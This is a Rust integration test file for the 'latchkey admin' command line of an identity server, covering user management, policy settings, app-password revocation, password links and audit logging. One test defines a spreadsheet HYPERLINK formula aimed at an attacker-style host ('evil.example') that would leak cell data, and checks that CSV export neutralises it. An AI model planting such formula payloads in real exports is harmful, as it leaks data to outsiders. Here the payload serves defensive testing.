//! The `latchkey admin` command line, run as the real binary on SQLite and PostgreSQL.

mod support;

use std::process::{Command, Stdio};

use support::{TestDatabase, TestResult};

struct Output {
    code: i32,
    stdout: String,
    stderr: String,
}

fn latchkey(
    database_url: &str,
    args: &[&str],
    stdin: &str,
) -> Result<Output, Box<dyn std::error::Error + Send + Sync>> {
    latchkey_logging(database_url, args, stdin, "warn")
}

/// [`latchkey`] with the log filter `log` (`info` is the default an operator has).
fn latchkey_logging(
    database_url: &str,
    args: &[&str],
    stdin: &str,
    log: &str,
) -> Result<Output, Box<dyn std::error::Error + Send + Sync>> {
    let output = support::run_with_input(
        Command::new(env!("CARGO_BIN_EXE_latchkey"))
            .args(args)
            .env("LATCHKEY_DATABASE_URL", database_url)
            .env("LATCHKEY_LOG", log),
        stdin.as_bytes(),
    )?;
    Ok(Output {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    })
}

#[tokio::test]
async fn administer_users_and_policy_from_the_command_line() -> TestResult {
    for database in TestDatabase::all().await {
        let url = database.url.as_str();
        if database.name == "sqlite" {
            // A wrong path is said, and no empty database is left there.
            let missing = latchkey(url, &["admin", "org", "show"], "")?;
            assert_eq!(missing.code, 1);
            assert!(
                missing.stderr.contains("no database at"),
                "{}",
                missing.stderr
            );
            assert!(!std::path::Path::new(server::db::sqlite_path(url)).exists());
        }
        let backend = support::backend(&database).await;
        let before_setup = latchkey(url, &["admin", "org", "show"], "")?;
        assert_eq!(before_setup.code, 1, "{}", database.name);
        assert!(
            before_setup.stderr.contains("not set up"),
            "{}",
            before_setup.stderr
        );
        support::set_up_organization(&backend).await;

        let added = latchkey(
            url,
            &[
                "admin",
                "user",
                "add",
                "Bob@Contoso.example",
                "--name",
                "Bob Builder",
            ],
            "a long enough password\n",
        )?;
        assert_eq!(added.code, 0, "{}", added.stderr);
        assert!(
            added
                .stdout
                .contains("added Bob@Contoso.example (Bob Builder)"),
            "{}",
            added.stdout
        );
        let duplicate = latchkey(
            url,
            &[
                "admin",
                "user",
                "add",
                "bob@contoso.example",
                "--name",
                "Bob",
            ],
            "a long enough password\n",
        )?;
        assert_eq!(duplicate.code, 1);
        assert!(
            duplicate.stderr.contains("already taken"),
            "{}",
            duplicate.stderr
        );
        let short = latchkey(
            url,
            &[
                "admin",
                "user",
                "add",
                "eve@contoso.example",
                "--name",
                "Eve",
            ],
            "short\n",
        )?;
        assert_eq!(short.code, 1);
        assert!(
            short.stderr.contains("at least 12 characters"),
            "{}",
            short.stderr
        );

        let list = latchkey(url, &["admin", "user", "list"], "")?;
        assert!(
            list.stdout.contains("Bob@Contoso.example") && list.stdout.contains("2 users"),
            "{}",
            list.stdout
        );

        assert_eq!(
            latchkey(
                url,
                &["admin", "user", "disable", "bob@contoso.example"],
                ""
            )?
            .code,
            0
        );
        let list = latchkey(url, &["admin", "user", "list"], "")?;
        assert!(
            list.stdout
                .lines()
                .any(|l| l.starts_with("Bob@Contoso.example") && l.ends_with("disabled")),
            "{}",
            list.stdout
        );
        assert_eq!(
            latchkey(url, &["admin", "user", "enable", "bob@contoso.example"], "")?.code,
            0
        );
        let reset = latchkey(
            url,
            &["admin", "user", "reset-password", "bob@contoso.example"],
            "another fine password\n",
        )?;
        assert_eq!(reset.code, 0, "{}", reset.stderr);
        let bob = backend
            .store()
            .user_by_key("bob@contoso.example")
            .await?
            .ok_or("bob missing")?;
        assert!(server::domain::password::verify_password(
            "another fine password",
            &bob.password_hash
        ));
        assert_eq!(
            latchkey(
                url,
                &["admin", "user", "make-admin", "bob@contoso.example"],
                ""
            )?
            .code,
            0
        );
        assert_eq!(
            backend.store().user(bob.id).await?.map(|u| u.role),
            Some(server::db::Role::Administrator)
        );

        let missing = latchkey(
            url,
            &["admin", "user", "disable", "nobody@contoso.example"],
            "",
        )?;
        assert_eq!(missing.code, 1);
        assert!(
            missing.stderr.contains("no user with the sign-in name"),
            "{}",
            missing.stderr
        );

        let set = latchkey(
            url,
            &["admin", "org", "set", "allow-app-passwords", "off"],
            "",
        )?;
        assert_eq!(set.code, 0, "{}", set.stderr);
        assert!(
            set.stdout.contains("allow-app-passwords:         off"),
            "{}",
            set.stdout
        );
        let set = latchkey(
            url,
            &["admin", "org", "set", "security-info-experience", "off"],
            "",
        )?;
        assert!(
            set.stdout.contains("security-info-experience:    off"),
            "{}",
            set.stdout
        );
        let set = latchkey(url, &["admin", "org", "set", "require-two-step", "on"], "")?;
        assert!(
            set.stdout.contains("require-two-step:            on"),
            "{}",
            set.stdout
        );
        let org = backend.store().organization().await?.ok_or("org missing")?;
        assert!(!org.allow_app_passwords && !org.security_info_experience);
        assert!(org.require_two_step);

        let bad = latchkey(url, &["admin", "org", "set", "colour", "blue"], "")?;
        assert_eq!(bad.code, 2, "usage errors exit with 2");
    }
    Ok(())
}

#[test]
fn bad_configuration_ends_with_one_clear_line()
-> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let dir = tempfile::tempdir()?;
    let not_a_db = dir.path().join("not.db");
    std::fs::write(
        &not_a_db,
        "definitely not sqlite, just text of a decent length to look like a file",
    )?;
    let output = latchkey(
        &format!("sqlite://{}", not_a_db.display()),
        &["migrate"],
        "",
    )?;
    assert_eq!(output.code, 1);
    let lines: Vec<&str> = output
        .stderr
        .lines()
        .filter(|l| l.starts_with("latchkey:"))
        .collect();
    assert_eq!(lines.len(), 1, "{}", output.stderr);
    assert!(!output.stderr.contains("panicked"), "{}", output.stderr);

    let taken = std::net::TcpListener::bind("127.0.0.1:0")?;
    let addr = taken.local_addr()?.to_string();
    let mut child = Command::new(env!("CARGO_BIN_EXE_latchkey"))
        .args(["--addr", &addr])
        .env(
            "LATCHKEY_DATABASE_URL",
            format!("sqlite://{}", dir.path().join("ok.db").display()),
        )
        .env("LATCHKEY_SECRET_KEY_FILE", dir.path().join("secret.key"))
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()?;
    let status = child.wait()?;
    let mut stderr = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().ok_or("no stderr")?, &mut stderr)?;
    assert_eq!(status.code(), Some(1));
    assert!(
        stderr.contains("is another program using that port?"),
        "{stderr}"
    );
    Ok(())
}

#[tokio::test]
async fn list_and_revoke_a_persons_app_passwords_from_the_command_line() -> TestResult {
    use app::backend::prelude::*;
    use server::use_cases::app_password_check::{CheckOutcome, Client};
    for database in TestDatabase::all().await {
        let url = database.url.as_str();
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        support::add_user(&backend, "ada@contoso.example").await;
        let (ctx, outlook) =
            support::app_password_for(&backend, "ada@contoso.example", "Outlook").await?;
        let mutt = backend.create_app_password(&ctx, "Mutt", "", "").await?;
        let client = Client {
            ip: Some("192.0.2.9".to_owned()),
            name: Some("IMAP".to_owned()),
            ..Default::default()
        };
        let check = |password: String| {
            let backend = std::sync::Arc::clone(&backend);
            let client = client.clone();
            async move {
                backend
                    .check_app_password("ada@contoso.example", &password, &client)
                    .await
            }
        };
        assert!(matches!(
            check(outlook.password.clone()).await?,
            CheckOutcome::Accepted(_)
        ));

        let listed = latchkey(
            url,
            &["admin", "app-passwords", "list", "Ada@Contoso.example"],
            "",
        )?;
        assert_eq!(listed.code, 0, "{}: {}", database.name, listed.stderr);
        assert!(listed.stdout.contains("Outlook"), "{}", listed.stdout);
        assert!(
            listed.stdout.contains("from 192.0.2.9 (IMAP)"),
            "{}",
            listed.stdout
        );
        assert!(listed.stdout.contains("Mutt"), "{}", listed.stdout);
        assert!(
            listed
                .stdout
                .contains("2 app passwords of ada@contoso.example")
        );
        assert!(!listed.stdout.contains(&outlook.password), "never a secret");

        let unknown = latchkey(
            url,
            &[
                "admin",
                "app-passwords",
                "revoke",
                "ada@contoso.example",
                "Pine",
            ],
            "",
        )?;
        assert_eq!(unknown.code, 1);
        assert!(
            unknown.stderr.contains("no app password named \"Pine\""),
            "{}",
            unknown.stderr
        );
        let neither = latchkey(
            url,
            &["admin", "app-passwords", "revoke", "ada@contoso.example"],
            "",
        )?;
        assert_eq!(
            neither.code, 2,
            "a name or --all is needed: {}",
            neither.stderr
        );

        let revoked = latchkey(
            url,
            &[
                "admin",
                "app-passwords",
                "revoke",
                "ada@contoso.example",
                "outlook",
            ],
            "",
        )?;
        assert_eq!(revoked.code, 0, "{}", revoked.stderr);
        assert!(
            revoked
                .stdout
                .contains("revoked 1 app password of ada@contoso.example: \"Outlook\""),
            "{}",
            revoked.stdout
        );
        // The command line is another process: the running instance, whose check was
        // cached, hears of the revocation from the database and refuses within a second
        // (SQLite: polled every 100 ms; PostgreSQL: notified).
        let refused = support::time_until(std::time::Duration::from_secs(1), async || {
            Ok::<_, Box<dyn std::error::Error + Send + Sync>>(matches!(
                check(outlook.password.clone()).await?,
                CheckOutcome::Refused
            ))
        })
        .await?;
        assert!(refused.is_some(), "outlook: still accepted");
        assert!(matches!(
            check(mutt.password.clone()).await?,
            CheckOutcome::Accepted(_)
        ));

        let all = latchkey(
            url,
            &[
                "admin",
                "app-passwords",
                "revoke",
                "ada@contoso.example",
                "--all",
            ],
            "",
        )?;
        assert_eq!(all.code, 0, "{}", all.stderr);
        assert!(
            all.stdout.contains("revoked 1 app password"),
            "{}",
            all.stdout
        );
        let refused = support::time_until(std::time::Duration::from_secs(1), async || {
            Ok::<_, Box<dyn std::error::Error + Send + Sync>>(matches!(
                check(mutt.password.clone()).await?,
                CheckOutcome::Refused
            ))
        })
        .await?;
        assert!(refused.is_some(), "mutt: still accepted");

        let user = backend
            .store()
            .user_by_key("ada@contoso.example")
            .await?
            .ok_or("ada")?;
        let revocations = backend
            .store()
            .audit_events_of(user.id)
            .await?
            .into_iter()
            .filter(|event| event.kind == "app_password.revoked")
            .count();
        assert_eq!(
            revocations, 2,
            "{}: each revocation is audited",
            database.name
        );
    }
    Ok(())
}

#[tokio::test]
async fn the_last_administrator_stays_and_a_reset_revokes_app_passwords_as_the_policy_says()
-> TestResult {
    use app::backend::prelude::*;
    use server::use_cases::app_password_check::{CheckOutcome, Client};
    for database in TestDatabase::all().await {
        let url = database.url.as_str();
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;

        // The only administrator can neither lose the role nor be disabled.
        for command in ["remove-admin", "disable"] {
            let refused = latchkey(
                url,
                &["admin", "user", command, "admin@contoso.example"],
                "",
            )?;
            assert_eq!(refused.code, 1, "{command}: {}", refused.stdout);
            assert!(
                refused.stderr.contains("last administrator"),
                "{command}: {}",
                refused.stderr
            );
        }
        let admin = backend
            .store()
            .user_by_key("admin@contoso.example")
            .await?
            .ok_or("admin")?;
        assert!(admin.is_enabled && admin.role == server::db::Role::Administrator);
        // With a second administrator, the first may step down.
        support::add_user(&backend, "ada@contoso.example").await;
        let made = latchkey(
            url,
            &["admin", "user", "make-admin", "ada@contoso.example"],
            "",
        )?;
        assert_eq!(made.code, 0, "{}", made.stderr);
        let stepped_down = latchkey(
            url,
            &["admin", "user", "remove-admin", "admin@contoso.example"],
            "",
        )?;
        assert_eq!(stepped_down.code, 0, "{}", stepped_down.stderr);
        assert!(stepped_down.stdout.contains("no longer an administrator"));
        let refused = latchkey(
            url,
            &["admin", "user", "disable", "ada@contoso.example"],
            "",
        )?;
        assert!(
            refused.stderr.contains("last administrator"),
            "{}",
            refused.stderr
        );

        // A reset revokes the app passwords by default, and keeps them when turned off;
        // sessions end either way.
        support::add_user(&backend, "bob@contoso.example").await;
        let client = Client::default();
        let (ada_ctx, ada_app) =
            support::app_password_for(&backend, "ada@contoso.example", "Mail").await?;
        let (bob_ctx, bob_app) =
            support::app_password_for(&backend, "bob@contoso.example", "Mail").await?;
        let reset = latchkey(
            url,
            &["admin", "user", "reset-password", "ada@contoso.example"],
            "a brand new password\n",
        )?;
        assert_eq!(reset.code, 0, "{}", reset.stderr);
        assert!(
            reset
                .stdout
                .contains("1 session ended, 1 app password revoked"),
            "{}",
            reset.stdout
        );
        assert!(matches!(
            backend
                .check_app_password("ada@contoso.example", &ada_app.password, &client)
                .await?,
            CheckOutcome::Refused
        ));
        assert_eq!(backend.current_user(&ada_ctx).await?, None);

        let set = latchkey(
            url,
            &["admin", "org", "set", "reset-revokes-app-passwords", "off"],
            "",
        )?;
        assert!(
            set.stdout.contains("reset-revokes-app-passwords: off"),
            "{}",
            set.stdout
        );
        let reset = latchkey(
            url,
            &["admin", "user", "reset-password", "bob@contoso.example"],
            "a brand new password\n",
        )?;
        assert!(
            reset
                .stdout
                .contains("1 session ended, 0 app passwords revoked"),
            "{}",
            reset.stdout
        );
        assert!(matches!(
            backend
                .check_app_password("bob@contoso.example", &bob_app.password, &client)
                .await?,
            CheckOutcome::Accepted(_)
        ));
        assert_eq!(backend.current_user(&bob_ctx).await?, None);

        // Each change wrote its audit event.
        let kinds: Vec<String> = backend
            .store()
            .audit_events(None, None)
            .await?
            .into_iter()
            .map(|event| event.kind)
            .collect();
        for kind in [
            "user.made_admin",
            "user.removed_admin",
            "password.reset",
            "policy.changed",
        ] {
            assert!(kinds.iter().any(|k| k == kind), "{kind} in {kinds:?}");
        }
    }
    Ok(())
}

#[tokio::test]
async fn the_command_line_prints_one_time_password_links() -> TestResult {
    use app::backend::prelude::*;
    for database in TestDatabase::all().await {
        let url = database.url.as_str();
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        let token_in = |stdout: &str| -> String {
            stdout
                .split("https://id.contoso.example/set-password?token=")
                .nth(1)
                .map(|rest| rest.trim().to_owned())
                .unwrap_or_default()
        };
        let public = ["--public-url", "https://id.contoso.example/"];
        let added = latchkey(
            url,
            &[
                &[
                    "admin",
                    "user",
                    "add",
                    "grace@contoso.example",
                    "--name",
                    "Grace Hopper",
                    "--link",
                ][..],
                &public,
            ]
            .concat(),
            "",
        )?;
        assert_eq!(added.code, 0, "{}: {}", database.name, added.stderr);
        let welcome = token_in(&added.stdout);
        assert!(
            backend.password_link(&welcome).await?.first_password,
            "{}",
            added.stdout
        );

        let reset = latchkey(
            url,
            &[
                &[
                    "admin",
                    "user",
                    "reset-password",
                    "grace@contoso.example",
                    "--link",
                ][..],
                &public,
            ]
            .concat(),
            "",
        )?;
        assert_eq!(reset.code, 0, "{}", reset.stderr);
        assert!(
            reset.stdout.contains("0 sessions ended"),
            "{}",
            reset.stdout
        );
        let renewed = token_in(&reset.stdout);
        assert!(!backend.password_link(&renewed).await?.first_password);
        // The new link replaced the first.
        assert_eq!(
            backend.password_link(&welcome).await.err(),
            Some(app::error::AppError::NotFound)
        );
    }
    Ok(())
}

#[tokio::test]
async fn the_audit_log_as_csv_never_holds_a_spreadsheet_formula() -> TestResult {
    use app::backend::prelude::*;
    const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"details\")";
    const NAME: &str = "+1@contoso.example";
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        support::add_user(&backend, NAME).await;
        // An outsider's failed sign-in, with a User-Agent of their choosing.
        let outsider = app::backend::RequestContext {
            user_agent: Some(FORMULA.to_owned()),
            ..support::context("198.51.100.66", None)
        };
        let refused = backend
            .sign_in(&outsider, NAME, "not the password at all")
            .await;
        assert!(refused.is_err());

        let audit = latchkey(&database.url, &["admin", "audit", "--csv"], "")?;
        assert_eq!(audit.code, 0, "{}", audit.stderr);
        let mut reader = csv::Reader::from_reader(audit.stdout.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
        let failed = rows
            .iter()
            .find(|row| &row[3] == "sign_in.failed")
            .ok_or("no failed sign-in in the log")?;
        assert_eq!(&failed[2], format!("'{NAME}"), "{}", database.name);
        assert_eq!(&failed[6], format!("'{FORMULA}"), "{}", database.name);
        for row in &rows {
            assert!(
                !row.iter()
                    .any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
                "{}: a formula in {row:?}",
                database.name
            );
        }
    }
    Ok(())
}

#[tokio::test]
async fn reset_methods_asks_first_and_brings_a_person_back() -> TestResult {
    use app::backend::prelude::*;
    use server::use_cases::app_password_check::{CheckOutcome, Client};
    for database in TestDatabase::all().await {
        let url = database.url.as_str();
        let name = database.name;
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        let ada = support::add_user(&backend, "ada@contoso.example").await;
        let (ctx, mail) =
            support::app_password_for(&backend, "ada@contoso.example", "Mail").await?;
        backend
            .new_recovery_codes(&ctx, &app::model::IdentityCheck::default())
            .await?;
        support::set_policy(
            &backend,
            server::domain::policy::Setting::RequireTwoStep,
            true,
        )
        .await?;
        let client = Client {
            ip: Some("192.0.2.9".to_owned()),
            name: Some("IMAP".to_owned()),
            ..Default::default()
        };
        let accepted = async || -> Result<bool, server::db::StoreError> {
            Ok(matches!(
                backend
                    .check_app_password("ada@contoso.example", &mail.password, &client)
                    .await?,
                CheckOutcome::Accepted(_)
            ))
        };
        assert!(accepted().await?, "{name}: cached by the running instance");

        // Asked first: anything but yes changes nothing.
        let declined = latchkey(
            url,
            &["admin", "user", "reset-methods", "Ada@Contoso.example"],
            "no\n",
        )?;
        assert_eq!(declined.code, 1, "{name}: {}", declined.stdout);
        assert!(
            declined.stderr.contains(
                "Reset the sign-in methods of ada@contoso.example (Test User)? Their authenticator apps, passkeys and recovery codes are removed and all their sessions end; their app passwords are revoked (reset-revokes-app-passwords is on)."
            ) && declined
                .stderr
                .contains("at their next sign-in they will be asked to add a method"),
            "{name}: {}",
            declined.stderr
        );
        assert!(
            declined.stderr.contains("nothing was changed"),
            "{}",
            declined.stderr
        );
        assert!(backend.store().authenticator(ada.id).await?.is_some());
        assert!(accepted().await?, "{name}");

        let reset = latchkey(
            url,
            &["admin", "user", "reset-methods", "ada@contoso.example"],
            "yes\n",
        )?;
        assert_eq!(reset.code, 0, "{name}: {}", reset.stderr);
        assert_eq!(
            reset.stdout.trim_end(),
            "sign-in methods of ada@contoso.example reset: 1 authenticator app and 10 recovery codes removed, 1 session ended, 1 app password revoked\nat their next sign-in they will be asked to add a method",
            "{name}"
        );
        assert!(backend.store().authenticator(ada.id).await?.is_none());
        assert_eq!(backend.store().recovery_codes_left(ada.id).await?.issued, 0);
        assert!(backend.signed_in(&ctx).await?.is_none(), "{name}");
        // Another process: the running instance hears of it from the database.
        let refused = support::time_until(std::time::Duration::from_secs(1), async || {
            Ok::<_, server::db::StoreError>(!accepted().await?)
        })
        .await?;
        assert!(refused.is_some(), "{name}: the app password still works");
        // Audited as the command line's, and the person's mail queued with it.
        let events = backend.store().audit_events_of(ada.id).await?;
        let event = events
            .iter()
            .find(|event| event.kind == "methods.reset")
            .ok_or("the reset's event")?;
        assert_eq!(event.actor_user_id, None);
        assert!(
            event.by_command_line,
            "{name}: marked as the command line's"
        );
        assert!(
            backend
                .store()
                .outbox()
                .await?
                .iter()
                .any(|mail| mail.audit_event_id == event.id),
            "{name}: the mail is queued"
        );
        let log = latchkey(
            url,
            &["admin", "audit", "--user", "ada@contoso.example"],
            "",
        )?;
        assert!(
            log.stdout
                .lines()
                .any(|line| line.contains("methods.reset") && line.ends_with("(by command line)")),
            "{}",
            log.stdout
        );

        // --yes does not ask (for scripts); an unknown name is said so.
        let again = latchkey(
            url,
            &[
                "admin",
                "user",
                "reset-methods",
                "ada@contoso.example",
                "--yes",
            ],
            "",
        )?;
        assert_eq!(again.code, 0, "{name}: {}", again.stderr);
        assert!(
            again
                .stdout
                .contains("reset: no method to remove, 0 sessions ended, no app passwords"),
            "{}",
            again.stdout
        );
        assert!(!again.stderr.contains("Reset the sign-in methods"));
        let unknown = latchkey(
            url,
            &[
                "admin",
                "user",
                "reset-methods",
                "nobody@contoso.example",
                "--yes",
            ],
            "",
        )?;
        assert_eq!(unknown.code, 1);
        assert!(
            unknown.stderr.contains("no user with the sign-in name"),
            "{}",
            unknown.stderr
        );
    }
    Ok(())
}

/// `reset-methods --password-link` ("reset password and methods"): asked first, one change
/// with both audit events, and the link printed; `org set reset-password-by-mail`.
#[tokio::test]
async fn reset_methods_with_a_password_link_and_reset_by_mail_from_the_command_line() -> TestResult
{
    for database in TestDatabase::all().await {
        let url = database.url.as_str();
        let name = database.name;
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        let ada = support::add_user(&backend, "ada@contoso.example").await;
        support::signed_in_with_authenticator(&backend, "ada@contoso.example", "192.0.2.9").await?;

        let declined = latchkey(
            url,
            &[
                "admin",
                "user",
                "reset-methods",
                "ada@contoso.example",
                "--password-link",
            ],
            "no\n",
        )?;
        assert_eq!(declined.code, 1, "{name}: {}", declined.stdout);
        assert!(
            declined.stderr.contains("Their password is reset too"),
            "{}",
            declined.stderr
        );
        assert!(backend.store().authenticator(ada.id).await?.is_some());

        let reset = latchkey(
            url,
            &[
                "admin",
                "user",
                "reset-methods",
                "ada@contoso.example",
                "--password-link",
            ],
            "yes\n",
        )?;
        assert_eq!(reset.code, 0, "{name}: {}", reset.stderr);
        assert!(
            reset.stdout.starts_with(
                "password and sign-in methods of ada@contoso.example reset: 1 authenticator app removed, 1 session ended"
            ) && reset.stdout.contains("/set-password?token="),
            "{name}: {}",
            reset.stdout
        );
        assert!(backend.store().authenticator(ada.id).await?.is_none());
        let kinds: Vec<String> = backend
            .store()
            .audit_events_of(ada.id)
            .await?
            .into_iter()
            .map(|event| event.kind)
            .collect();
        for kind in ["methods.reset", "password.reset"] {
            assert!(kinds.iter().any(|k| k == kind), "{name}: {kind}: {kinds:?}");
        }

        let set = latchkey(
            url,
            &["admin", "org", "set", "reset-password-by-mail", "on"],
            "",
        )?;
        assert_eq!(set.code, 0, "{name}: {}", set.stderr);
        assert!(
            set.stdout.contains("reset-password-by-mail:      on"),
            "{}",
            set.stdout
        );
        let org = backend
            .store()
            .organization()
            .await?
            .ok_or("organization")?;
        assert!(org.reset_password_by_mail, "{name}");
    }
    Ok(())
}

/// A command's standard output holds only its answer, at the default log level too: its log
/// lines go to standard error and the migrations of every start say nothing (issue: a CSV began
/// with two coloured log lines). A password that is the sign-in name is refused here as on
/// every page that sets one.
#[tokio::test]
async fn a_commands_output_is_only_its_answer() -> TestResult {
    for database in TestDatabase::all().await {
        let backend = support::backend(&database).await;
        support::set_up_organization(&backend).await;
        let run = |args: &[&str], stdin: &str| latchkey_logging(&database.url, args, stdin, "info");
        let list = run(&["admin", "user", "list"], "")?;
        let stdout = &list.stdout;
        assert_eq!(list.code, 0, "{}", database.name);
        assert!(
            stdout.starts_with("SIGN-IN NAME")
                && stdout.contains("admin@contoso.example")
                && !stdout.contains("igration"),
            "{}: {stdout}",
            database.name
        );
        let csv = run(&["admin", "audit", "--csv"], "")?;
        let stdout = &csv.stdout;
        assert!(
            stdout.starts_with("\"time\",\"actor\""),
            "{}: {stdout}",
            database.name
        );

        let own_name = run(
            &[
                "admin",
                "user",
                "add",
                "eve@contoso.example",
                "--name",
                "Eve",
            ],
            "Eve@Contoso.example\n",
        )?;
        assert_eq!(own_name.code, 1, "{}", database.name);
        assert!(
            own_name.stderr.contains("not the sign-in name"),
            "{}",
            own_name.stderr
        );
    }
    Ok(())
}
